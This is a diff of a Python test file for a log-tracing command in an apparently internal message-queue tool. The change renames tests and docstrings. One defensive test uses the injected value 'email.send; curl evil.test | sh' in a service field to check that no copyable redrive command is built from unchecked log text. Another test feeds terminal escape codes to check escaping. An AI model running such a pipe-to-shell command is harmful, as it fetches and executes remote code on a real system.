@@ -1,4 +1,4 @@
-"""`trace`: what is looked for, and what is shown of it."""
+"""`trace`: the log search and its output."""
 
 import json
 from datetime import UTC, datetime, timedelta
@@ -35,7 +35,7 @@ def chain() -> Chain:
 
 @pytest.fixture
 def stage(chain: Chain) -> FakeStage:
-    """Its logs, each line in its function's."""
+    """A stage with the chain's logs, each line in its function's log group."""
     stage = FakeStage("prod", OF_ALL_LOGS)
     for number, written in enumerate(chain.world.log):
         fields = json.loads(written)
@@ -46,7 +46,7 @@ def stage(chain: Chain) -> FakeStage:
 
 
 def ids_of(chain: Chain) -> list[str]:
-    """Whatever a person may have in hand: each message's, each of SQS's."""
+    """All message ids and SQS message ids of a chain."""
     return [each for line in chain.world.lines for each in (line["id"], line["sqs_message_id"])]
 
 
@@ -55,7 +55,7 @@ def run(stage: FakeStage, an_id: str, capsys: pytest.CaptureFixture[str]) -> str
     return capsys.readouterr().out
 
 
-def test_from_any_id_of_a_chain_the_whole_journey_is_found(
+def test_any_id_of_a_chain_finds_the_whole_journey(
     stage: FakeStage, chain: Chain, capsys: pytest.CaptureFixture[str]
 ) -> None:
     with json_lines():
@@ -74,7 +74,7 @@ def test_from_any_id_of_a_chain_the_whole_journey_is_found(
     assert [hop["parent"] for hop in hops[2:4]] == ["report-1", hops[2]["id"]]
 
 
-def test_the_tree_has_a_line_a_message_and_a_line_a_hop(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_tree_has_a_line_for_each_message_and_hop(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
     shown = run(stage, "report-1", capsys)
 
     lines = shown.splitlines()
@@ -85,11 +85,11 @@ def test_the_tree_has_a_line_a_message_and_a_line_a_hop(stage: FakeStage, capsys
     assert len(lines) == 3 + 6 + 1
 
 
-def test_ids_that_begin_alike_are_told_apart(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_id_does_not_match_ids_that_start_with_it(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
     assert "report-10" not in run(stage, "report-1", capsys)
 
 
-def test_of_a_chain_that_many_messages_share_the_one_that_was_asked_for_is_shown(
+def test_an_id_in_a_shared_chain_shows_only_its_own_tree(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     stage = FakeStage("prod", OF_ALL_LOGS)
@@ -102,33 +102,33 @@ def test_of_a_chain_that_many_messages_share_the_one_that_was_asked_for_is_shown
     assert all(f"text-{number}" in all_of_them for number in range(3))
 
 
-def test_who_was_told_and_what_people_did_are_hops(capsys: pytest.CaptureFixture[str]) -> None:
+def test_alerts_and_operator_actions_are_hops(capsys: pytest.CaptureFixture[str]) -> None:
     stage = FakeStage("prod", OF_ALL_LOGS)
-    died: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee123456"}
-    stage.log("email.send", NOON, id="mail-1", type="email.send", correlation_id="booking-1", **died)
+    failed: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee123456"}
+    stage.log("email.send", NOON, id="mail-1", type="email.send", correlation_id="booking-1", **failed)
     stage.log("slack_notifier", NOON + timedelta(seconds=40), message="posted", ids=["mail-0", "mail-1"])
 
     shown = run(stage, "mail-1", capsys)
 
     assert "✗ dead-lettered permanent c0ffee123456" in shown
-    assert "+40.000s ! told in Slack" in shown
+    assert "+40.000s ! alert sent to Slack" in shown
     assert "mail-0" not in shown
     assert "1 dead letter" in shown
     assert "taly-async redrive email.send --cause c0ffee123456 --stage prod" in shown
 
 
-def test_an_unknown_id_says_where_it_was_looked_for_and_what_may_be(stage: FakeStage) -> None:
+def test_an_unknown_id_names_the_search_and_possible_causes(stage: FakeStage) -> None:
     with pytest.raises(OperatorError) as raised:
         trace(stage.deployed, TraceRequest(an_id="nobody", since=SINCE))
 
     sentence = str(raised.value)
-    assert "18 logs were looked through, from 2026-04-01 00:00:00 UTC on" in sentence
+    assert "18 logs were searched, from 2026-04-01 00:00:00 UTC on" in sentence
     assert "give a longer --since" in sentence
     assert "7d" not in sentence
 
 
 @pytest.mark.parametrize("an_id", ["", "two words", '"', "\x1b[2J", "x" * 129, "{ $.a = * }"])
-def test_what_can_be_no_id_is_not_looked_for(an_id: str) -> None:
+def test_an_invalid_id_is_not_searched_for(an_id: str) -> None:
     stage = FakeStage("prod", OF_ALL_LOGS)
 
     with pytest.raises(OperatorError, match="can be no id") as raised:
@@ -150,67 +150,67 @@ def line(seconds: float, what: Outcome | OperatorAction, **fields: Any) -> LogLi
     return LogLine(at=NOON + timedelta(seconds=seconds), what=what, **known)
 
 
-def test_what_is_retrying_says_when_it_comes_back() -> None:
-    assert "comes back to email.send in 25 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=35))
-    assert "waits for email.send since 5 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=5))
+def test_a_retrying_message_says_when_it_returns() -> None:
+    assert "returns to email.send in 25 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=35))
+    assert "waiting for email.send for 5 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=5))
 
 
-def test_a_time_at_the_end_of_all_calendars_is_survived() -> None:
+def test_the_latest_possible_time_is_handled() -> None:
     at_the_end = LogLine(
         at=datetime.max.replace(tzinfo=UTC), what=Outcome.RETRYING, id="a", service="email.send", delay=5
     )
 
-    assert "comes back to email.send in" in drawn(at_the_end)
+    assert "returns to email.send in" in drawn(at_the_end)
 
 
-def test_what_is_routed_and_no_more_waits_for_its_function() -> None:
+def test_a_routed_message_waits_for_its_function() -> None:
     shown = drawn(line(0, Outcome.ROUTED, service=QUEUE_PROCESSOR))
 
-    assert "waits for email.send since 10 s" in shown
-    assert shown.splitlines()[-1].endswith("1 on the way")
+    assert "waiting for email.send for 10 s" in shown
+    assert shown.splitlines()[-1].endswith("1 pending")
 
 
-def test_what_is_announced_is_shown_with_how_it_stands() -> None:
+def test_announced_messages_are_shown_with_their_state() -> None:
     shown = drawn(line(0, Outcome.SUCCEEDED, follow_ups=("b",), scheduled=(Scheduled("reminder/1/24h", "c"),)))
 
-    assert "b  on its way" in shown
+    assert "b  published" in shown
     assert "c  scheduled: reminder/1/24h" in shown
 
 
-def test_a_dead_letter_that_was_sent_back_or_discarded_is_none_any_more() -> None:
-    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
+def test_a_redriven_or_discarded_dead_letter_is_none_any_more() -> None:
+    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
     arn = "arn:aws:sts::1:assumed-role/Admin/ada"
 
-    sent_back = drawn(died, line(1, OperatorAction.REDRIVEN, who=arn))
-    discarded = drawn(died, line(1, OperatorAction.DISCARDED, who=arn))
+    sent_back = drawn(failed, line(1, OperatorAction.REDRIVEN, who=arn))
+    discarded = drawn(failed, line(1, OperatorAction.DISCARDED, who=arn))
 
     assert "↺ redriven      by assumed-role/Admin/ada" in sent_back
-    assert "waits for email.send since 9 s" in sent_back
+    assert "waiting for email.send for 9 s" in sent_back
     assert discarded.splitlines()[-1].endswith("all done")
     assert "redrive" not in discarded
 
 
-@pytest.mark.parametrize("deed", [OperatorAction.POSTED, OperatorAction.MAILED, OperatorAction.SHOWN])
-def test_a_dead_letter_that_people_were_told_of_or_looked_at_still_lies_there(deed: OperatorAction) -> None:
-    died = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
+@pytest.mark.parametrize("action", [OperatorAction.POSTED, OperatorAction.MAILED, OperatorAction.SHOWN])
+def test_an_alert_or_a_shown_payload_leaves_the_dead_letter_in_place(action: OperatorAction) -> None:
+    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
 
-    shown = drawn(died, line(1, deed))
+    shown = drawn(failed, line(1, action))
 
     assert shown.splitlines()[-2].endswith("1 dead letter")
     assert "taly-async redrive email.send --cause c0ffee123456" in shown
 
 
-def test_who_looked_at_a_payload_is_a_hop() -> None:
+def test_a_shown_payload_is_a_hop() -> None:
     shown = drawn(line(0, OperatorAction.SHOWN, who="arn:aws:sts::1:assumed-role/Admin/ada"))
 
-    assert "◉ payload seen  by assumed-role/Admin/ada" in shown
+    assert "◉ payload shown by assumed-role/Admin/ada" in shown
 
 
-def test_a_process_that_died_of_it_shows_by_how_often_it_was_received() -> None:
+def test_a_crash_shows_in_the_receive_count() -> None:
     assert "received 3 times" in drawn(line(0, Outcome.DEAD_LETTERED, receive_count=3))
 
 
-def test_text_of_others_stays_text() -> None:
+def test_hostile_text_is_escaped() -> None:
     hostile = "[red]\x1b[2J\u202e[/nonsense]"
 
     shown = drawn(
@@ -240,7 +240,7 @@ def test_deep_chains_are_drawn() -> None:
 
 
 @pytest.mark.parametrize(
-    "made_up",
+    "unchecked",
     [
         {"service": "email.send; curl evil.test | sh", "fingerprint": "c0ffee123456"},
         {"service": "email.send", "fingerprint": "c0ffee"},
@@ -248,8 +248,8 @@ def test_deep_chains_are_drawn() -> None:
     ],
     ids=str,
 )
-def test_no_command_is_given_to_copy_that_whoever_wrote_the_log_made_up(made_up: dict[str, str]) -> None:
-    shown = drawn(line(0, Outcome.DEAD_LETTERED, reason="permanent", **made_up))
+def test_no_command_contains_unchecked_text_of_a_log(unchecked: dict[str, str]) -> None:
+    shown = drawn(line(0, Outcome.DEAD_LETTERED, reason="permanent", **unchecked))
 
     assert shown.splitlines()[-1].endswith("1 dead letter")
     assert "taly-async" not in shown
